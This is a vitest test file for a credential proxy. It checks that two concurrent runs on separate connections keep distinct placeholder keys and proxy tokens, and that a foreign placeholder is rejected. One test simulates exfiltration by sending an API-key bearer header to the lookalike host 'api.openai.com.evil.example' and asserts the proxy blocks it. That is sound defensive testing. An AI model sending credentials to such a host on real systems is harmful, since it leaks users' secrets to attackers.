// Two runs at once know nothing of each other: a placeholder means something only in a run that binds its connection.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LiveChild } from "../support/live-child.ts";
import { openScene, type Scene } from "../support/scene.ts";

let scene: Scene;
let work: LiveChild;
let home: LiveChild;
const keys = { work: "", home: "" };
beforeAll(async () => {
  scene = await openScene();
  keys.home = await scene.login("openai", ["--connection", "home"]);
  keys.work = await scene.login("openai", ["--connection", "work"]);
  home = new LiveChild(scene.home, ["--connection", "openai=home"]);
  work = new LiveChild(scene.home, ["--connection", "openai=work"]);
});
afterAll(async () => {
  await Promise.allSettled([home.end(), work.end()]);
  await scene.close();
});

describe("two runs at once", () => {
  it("each reach the upstream with their own connection's key", async () => {
    await home.askOpenai();
    expect((await scene.upstream.nextRequest()).headers["authorization"]).toBe(`Bearer ${keys.home}`);
    await work.askOpenai();
    expect((await scene.upstream.nextRequest()).headers["authorization"]).toBe(`Bearer ${keys.work}`);
  });

  it("have placeholders and proxy tokens of their own", async () => {
    const [atHome, atWork] = [await home.environment(), await work.environment()];
    expect(atHome["OPENAI_API_KEY"]).not.toBe(atWork["OPENAI_API_KEY"]);
    expect(atHome["HTTPS_PROXY"]).not.toBe(atWork["HTTPS_PROXY"]);
    expect(new URL(atHome["HTTPS_PROXY"] ?? "").port).toBe(new URL(atWork["HTTPS_PROXY"] ?? "").port);
  });

  it("cannot use the other's placeholder", async () => {
    const foreign = (await work.environment())["OPENAI_API_KEY"] ?? "";
    const before = scene.upstream.requests.length;
    const answer = await home.request("https://api.openai.com/v1/models", { headers: { authorization: `Bearer ${foreign}` } });
    expect(answer.status).toBe(403);
    expect(JSON.parse(answer.body)).toMatchObject({ error: { code: "PLACEHOLDER_LEAK" } });
    expect(scene.upstream.requests).toHaveLength(before);
  });

  it("send no key to a host that is not the provider's", async () => {
    const answer = await home.request("https://api.openai.com.evil.example/v1/models", {
      headers: { authorization: "Bearer $OPENAI_API_KEY" },
    });
    expect(answer.status === 0 || answer.status >= 400).toBe(true);
    expect(scene.upstream.requests.some((request) => request.headers["host"]?.includes("evil"))).toBe(false);
  });

  it("let a child use a key of its own, untouched", async () => {
    const own = `sk-${"own".repeat(10)}`;
    await home.request("https://api.openai.com/v1/models", { headers: { authorization: `Bearer ${own}` } });
    expect((await scene.upstream.nextRequest()).headers["authorization"]).toBe(`Bearer ${own}`);
  });

  it("are both listed while they live", async () => {
    const { stdout } = await scene.home.succeed(["runs", "list", "--json"]);
    expect(stdout.match(/"run_[A-Za-z0-9]+"/g)).toHaveLength(2);
    await home.end();
    const after = await scene.home.succeed(["runs", "list", "--json"]);
    expect(after.stdout.match(/"run_[A-Za-z0-9]+"/g)).toHaveLength(1);
  });

  it("leave no key anywhere", () => scene.assertNoSecret());
});
